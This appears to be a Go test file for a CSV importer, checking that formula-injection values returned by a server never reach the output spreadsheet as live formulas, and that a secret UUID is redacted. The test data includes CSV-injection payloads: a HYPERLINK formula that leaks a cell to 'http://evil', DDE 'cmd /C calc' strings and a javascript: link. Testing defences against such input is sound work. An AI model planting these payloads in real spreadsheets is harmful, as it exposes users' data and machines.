package importer

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"

	"github.com/sbimport/sbimport/salesbyte"
	"github.com/sbimport/sbimport/sandbox"
)

// startsFormula reports whether a spreadsheet would read cell as a
// formula (or as the start of one).
func startsFormula(cell string) bool {
	if cell == "" {
		return false
	}
	if strings.ContainsRune("\t\r\n", rune(cell[0])) {
		return true
	}
	t := strings.TrimLeft(cell, " ")
	return t != "" && strings.ContainsRune("=+-@", rune(t[0]))
}

var hostileLinks = map[string]string{
	"edit":                      `=HYPERLINK("http://evil"&A1,"x")`,
	"customer_view":             `+cmd|' /C calc'!A0`,
	"customer_verificate":       "@SUM(1+1)*cmd|' /C calc'!A0",
	"customer_project_approval": "-2+3+cmd|' /C calc'!A0",
}

// A server answering links that are formulas: the row is created, its
// link cells are empty, sb_error says the server sent invalid links, and
// no sb_* cell can start a formula.
func TestHostileLinksNeverReachTheSheet(t *testing.T) {
	hostile := func(next http.Handler) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			body, _ := io.ReadAll(r.Body)
			if strings.Contains(string(body), "kund1@") {
				w.Header().Set("Content-Type", "application/json")
				w.WriteHeader(201)
				_ = json.NewEncoder(w).Encode(map[string]any{"id": 501, "links": hostileLinks})
				return
			}
			r.Body = io.NopCloser(strings.NewReader(string(body)))
			next.ServeHTTP(w, r)
		})
	}
	e := newEnv(t, sandbox.Options{}, hostile)
	e.customers(3)
	sum, err := Run(context.Background(), e.config())
	if err != nil {
		t.Fatal(err)
	}
	if sum.Counts[Created] != 3 {
		t.Errorf("counts = %v; want 3 created", sum.Counts)
	}
	_, rows := readCSV(t, DefaultOutput(e.input))
	r := rows[1]
	if r["sb_status"] != "created" || r["sb_id"] != "501" {
		t.Errorf("hostile row: %v; want created with id 501", r)
	}
	for _, col := range ResultColumns[colEdit : colApproval+1] {
		if r[col] != "" {
			t.Errorf("%s = %q; want empty", col, r[col])
		}
		if !strings.Contains(r["sb_error"], "invalid link for "+col) {
			t.Errorf("sb_error %q does not name %s", r["sb_error"], col)
		}
	}
	for i, row := range rows {
		for _, col := range ResultColumns {
			if startsFormula(row[col]) {
				t.Errorf("row %d %s = %q starts a formula", i, col, row[col])
			}
		}
	}
	if !strings.Contains(rows[0]["sb_link_customer_view"], "/view/") {
		t.Errorf("a good row lost its link: %v", rows[0])
	}
}

// Outcomes that bypassed the client (an earlier sheet, an old journal)
// still give no formula and no link that is not one.
func TestCellsAreInert(t *testing.T) {
	o := &Outcome{
		Status: Status("=cmd|' /C calc'!A0"),
		ID:     -5,
		Links: salesbyte.Links{
			Edit:               hostileLinks["edit"],
			CustomerView:       "https://app.salesbyte.se/view/k1",
			CustomerVerificate: "javascript:alert(1)",
			ProjectApproval:    "/view/k1?project_approval=1",
		},
		Error:      "=HYPERLINK(\"http://evil\"&A1,\"x\")",
		HTTPStatus: -1,
		Attempts:   -2,
		At:         "@SUM(A1)",
	}
	c := o.cells(2)
	for i, cell := range c {
		if startsFormula(cell) {
			t.Errorf("%s = %q starts a formula", ResultColumns[i], cell)
		}
	}
	if c[colView] != "https://app.salesbyte.se/view/k1" {
		t.Errorf("the good link was lost: %q", c[colView])
	}
	for _, i := range []int{colEdit, colVerificate, colApproval, colID, colHTTP, colAttempts} {
		if c[i] != "" {
			t.Errorf("%s = %q; want empty", ResultColumns[i], c[i])
		}
	}
	for _, col := range []string{"sb_link_edit", "sb_link_customer_verificate", "sb_link_project_approval"} {
		if !strings.Contains(c[colError], "invalid link for "+col) {
			t.Errorf("sb_error %q does not name %s", c[colError], col)
		}
	}
	if !strings.HasPrefix(c[colError], "'=HYPERLINK") || c[colStatus] != "'=cmd|' /C calc'!A0" || c[colAt] != "'@SUM(A1)" {
		t.Errorf("cells not kept as text behind an apostrophe: %q", c)
	}
}

func TestInert(t *testing.T) {
	tests := map[string]string{
		"":                  "",
		"created":           "created",
		"=1+1":              "'=1+1",
		"+1":                "'+1",
		"-1":                "'-1",
		"@SUM(A1)":          "'@SUM(A1)",
		"\t=1+1":            "'\t=1+1",
		"\r=1+1":            "'\r=1+1",
		"\nx":               "'\nx",
		"  =1+1":            "'  =1+1",
		"\u00a0=1+1":        "'\u00a0=1+1",
		"\uff1d1+1":         "'\uff1d1+1",
		"\uff0b1":           "'\uff0b1",
		"\uff0d1":           "'\uff0d1",
		"\uff20SUM(A1)":     "'\uff20SUM(A1)",
		"\u3000=1+1":        "'\u3000=1+1",
		"HTTP 422: =1+1":    "HTTP 422: =1+1",
		"'=1+1":             "'=1+1",
		"https://x.se/view": "https://x.se/view",
	}
	for in, want := range tests {
		if got := inert(in); got != want {
			t.Errorf("inert(%q) = %q; want %q", in, got, want)
		}
	}
}

// createdOutcome names every link it left out, and says when no id came.
func TestCreatedOutcomeNotes(t *testing.T) {
	o := createdOutcome(salesbyte.Created{Status: 200, BadLinks: []salesbyte.BadLink{{Name: "customer_project_approval", Value: "=1+1"}}}, 1, "t")
	if o.Status != Created || !strings.Contains(o.Error, "without an id") || !strings.Contains(o.Error, `invalid link for sb_link_project_approval ("=1+1"`) {
		t.Errorf("got %+v", o)
	}
	if o := createdOutcome(salesbyte.Created{ID: 4, Status: 201}, 1, "t"); o.Error != "" || o.ID != 4 {
		t.Errorf("a clean answer got %+v", o)
	}
}

// Reconcile keeps the sb_* cells of rows it does not settle: an earlier
// sheet's formula is kept as text, not as a formula.
func TestReconcileKeepsEarlierCellsInert(t *testing.T) {
	e := newEnv(t, sandbox.Options{}, nil)
	e.customers(2)
	out := runThenForget(t, e)
	rewriteCSV(t, out, func(recs [][]string) {
		r := recs[1]
		r[4], r[5], r[6], r[10] = "created", "99", `=HYPERLINK("http://evil"&A1,"x")`, "@SUM(A1)"
	})
	if _, err := Reconcile(context.Background(), ReconcileConfig{Input: out, Quotes: listing(quotesClient(t, e))}); err != nil {
		t.Fatal(err)
	}
	_, rows := readCSV(t, out)
	for i, row := range rows {
		for _, col := range ResultColumns {
			if startsFormula(row[col]) {
				t.Errorf("row %d %s = %q starts a formula", i, col, row[col])
			}
		}
	}
	if rows[0]["sb_error"] != "'@SUM(A1)" || rows[1]["sb_status"] != "created" {
		t.Errorf("rows %v; want the first kept as text, the second reconciled", rows)
	}
}

// A server echoing the uuid in any form: the output sheet, the journal
// and the run's summary show none of them.
func TestEchoedUUIDFormsAreRedacted(t *testing.T) {
	forms := []string{
		testUUID,
		strings.ReplaceAll(testUUID, "-", ""),
		strings.ToUpper(strings.ReplaceAll(testUUID, "-", "")),
		strings.ToUpper(testUUID),
		strings.ReplaceAll(testUUID, "-", "%2D"),
		strings.ReplaceAll(testUUID, "-", "%2d"),
	}
	echo := func(next http.Handler) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			body, _ := io.ReadAll(r.Body)
			for i, f := range forms {
				if strings.Contains(string(body), fmt.Sprintf("kund%d@", i)) {
					w.Header().Set("Content-Type", "application/json")
					w.WriteHeader(422)
					_ = json.NewEncoder(w).Encode(map[string]any{"message": "Integration " + f + " is disabled", "errors": map[string][]string{"uuid": {f + " is disabled"}}})
					return
				}
			}
			t.Errorf("unexpected request %s", body)
		})
	}
	e := newEnv(t, sandbox.Options{}, echo)
	e.customers(len(forms))
	sum, err := Run(context.Background(), e.config())
	if err != nil {
		t.Fatal(err)
	}
	_, rows := readCSV(t, DefaultOutput(e.input))
	for i, r := range rows {
		if r["sb_status"] != "failed" || !strings.Contains(r["sb_error"], "integration [redacted] is disabled") {
			t.Errorf("row %d: %s %q; want failed with the uuid redacted", i, r["sb_status"], r["sb_error"])
		}
	}
	var texts []string
	for _, p := range sum.Problems {
		texts = append(texts, p.Error)
	}
	for _, f := range forms {
		assertNoSecret(t, e.dir, f)
		if strings.Contains(strings.Join(texts, "\n"), f) {
			t.Errorf("the summary shows %s", f)
		}
	}
}
